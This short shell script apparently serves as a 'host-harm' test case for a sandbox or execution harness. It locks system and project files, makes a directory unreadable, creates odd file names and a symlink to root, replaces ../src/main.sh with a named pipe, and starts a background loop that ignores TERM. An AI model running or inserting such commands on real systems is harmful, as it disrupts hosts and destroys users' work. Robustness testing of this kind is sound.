# host-harm; alive tmp; locks every file that it can open, and leaves pipes where folders were
for f in /proc/self/exe /usr/lib/python3*/*.py /usr/bin/* ../* ../../* ../../shared/* ../../shared/*/*; do
  exec {fd}<"$f" && flock -n -x "$fd"
done 2>/dev/null
mkdir -p a/b/c; chmod 0 a/b; mkfifo p 'x
y'; ln -s / l; ln -s p q; ln "$0" hard
mv p "$PWD/../src/main.sh"; mkfifo ../src/main.sh
(trap '' TERM; while :; do mkfifo z; mkdir y; mv -T z w; rm -f w; rmdir y; done) &
echo 6
